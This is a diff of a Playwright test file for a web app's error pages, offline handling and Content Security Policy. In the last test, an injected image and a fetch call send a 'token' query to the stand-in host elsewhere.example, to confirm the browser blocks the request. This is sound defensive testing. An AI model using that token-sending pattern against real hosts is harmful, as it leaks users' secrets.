@@ -1,4 +1,4 @@
-import { FUNCTIONS } from '../product/job-functions.ts'
+import { FUNCTIONS_PATH } from '../product/job-functions.ts'
 import { expect, test } from '../product/journey.ts'
 
 test('a crashed page shows an error with a link home, without details [PG4]', async ({
@@ -6,9 +6,9 @@ test('a crashed page shows an error with a link home, without details [PG4]', as
   signIn,
   complaints,
 }) => {
-  // Only the console shows it, for the person at this machine.
-  complaints.expect(/ApiError: the words of a fault/)
-  const secret = 'the words of a fault'
+  const secret = 'details of the failure'
+  // The console of the browser shows them.
+  complaints.expect(/ApiError: details of the failure/)
   await page.route('**/api/graphql', (route) =>
     route.fulfill({ json: [{ errors: [{ message: secret, extensions: { code: 'INTERNAL' } }] }] }),
   )
@@ -34,7 +34,7 @@ test('a connection lost before the lazy parts of a page have loaded keeps the pa
     blocked.push(route.request().url())
     return route.abort('internetdisconnected')
   })
-  await signIn('analyst', FUNCTIONS)
+  await signIn('analyst', FUNCTIONS_PATH)
   await page.getByRole('button', { name: 'Add job function' }).click()
   await page.keyboard.type('Half typed')
   await page.getByRole('button', { name: 'Give feedback' }).click()
@@ -67,9 +67,9 @@ for (const [path, submit, fields] of FORMS) {
   })
 }
 
-test('an injected script neither runs nor sends data', async ({ page, complaints }) => {
+test('injected markup and scripts neither run nor send data', async ({ page, complaints }) => {
   complaints.expect(/Content Security Policy|TrustedHTML|TrustedScript/)
-  // Stands in for the other server, if it is called.
+  // Answers as the other server would, if a request is sent.
   await page.route('https://elsewhere.example/**', (route) =>
     route.fulfill({
       contentType: 'image/svg+xml',
@@ -80,7 +80,7 @@ test('an injected script neither runs nor sends data', async ({ page, complaints
   await page.goto('/login')
   await expect(page.getByRole('heading', { name: 'Log in' })).toBeVisible()
   const outcome = await page.evaluate(async () => {
-    const threw = (action: () => void) => {
+    const outcomeOf = (action: () => void) => {
       try {
         action()
         return 'done'
@@ -96,12 +96,12 @@ test('an injected script neither runs nor sends data', async ({ page, complaints
     foreign.src = 'https://elsewhere.example/?token=x'
     const loaded = new Promise((resolve) => {
       foreign.addEventListener('error', () => resolve('refused'))
-      foreign.addEventListener('load', () => resolve('told'))
+      foreign.addEventListener('load', () => resolve('sent'))
     })
-    const outcomes = { markup: threw(markup), script: threw(() => document.body.append(inline)) }
+    const outcomes = { markup: outcomeOf(markup), script: outcomeOf(() => document.body.append(inline)) }
     document.body.append(foreign)
     const call = fetch('https://elsewhere.example/').then(
-      () => 'told',
+      () => 'sent',
       () => 'refused',
     )
     return { ...outcomes, image: await loaded, call: await call, ran: 'ran' in globalThis }
